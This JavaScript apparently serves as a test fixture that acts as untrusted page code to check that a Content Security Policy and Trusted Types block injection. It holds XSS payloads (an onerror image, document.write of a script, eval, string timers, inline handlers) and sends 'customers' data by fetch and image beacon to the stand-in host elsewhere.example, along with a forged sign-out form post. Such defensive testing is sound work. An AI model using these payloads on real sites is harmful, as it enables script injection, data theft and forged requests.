// As code of somebody else in the page: tries each way to make HTML or a script out of a text, and to carry something away.
;(async () => {
  const violations = []
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push(event.effectiveDirective),
  )
  // What a test tool runs itself may evaluate; what runs later, as the page's own code does, may not.
  await new Promise((resolve) => setTimeout(resolve, 0))
  const attempt = (act) => {
    try {
      act()
      return 'done'
    } catch (error) {
      return error.name
    }
  }
  const element = document.createElement('div')
  const script = document.createElement('script')
  const outcomes = {
    html: attempt(() => {
      element.innerHTML = '<img src=x onerror="ran()">'
    }),
    inserted: attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
    written: attempt(() => document.write('<script>ran()</' + 'script>')),
    parsed: attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
    evaluated: attempt(() => globalThis.eval('1')),
    made: attempt(() => new Function('return 1')()),
    timed: attempt(() => setTimeout('ran()', 0)),
    text: attempt(() => {
      script.text = 'ran()'
    }),
    source: attempt(() => {
      script.src = '/first.js'
    }),
    framed: attempt(() => {
      document.createElement('iframe').srcdoc = '<b>x</b>'
    }),
    handler: attempt(() => element.setAttribute('onclick', 'ran()')),
    secondPolicy: attempt(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text })),
    samePolicy: attempt(() => trustedTypes.createPolicy('default', { createHTML: (text) => text })),
  }
  element.setAttribute('style', 'position:fixed')
  document.body.append(element)
  const style = document.createElement('style')
  style.append('body { display: none }')
  document.head.append(style)
  const away = await fetch('https://elsewhere.example/?customers').then(
    () => 'sent',
    () => 'refused',
  )
  new Image().src = 'https://elsewhere.example/?customers'
  const form = document.createElement('form')
  form.action = '/api/sign-out'
  form.method = 'post'
  document.body.append(form)
  form.submit()
  await new Promise((resolve) => setTimeout(resolve, 200))
  return { outcomes, violations, away, position: getComputedStyle(element).position }
})()
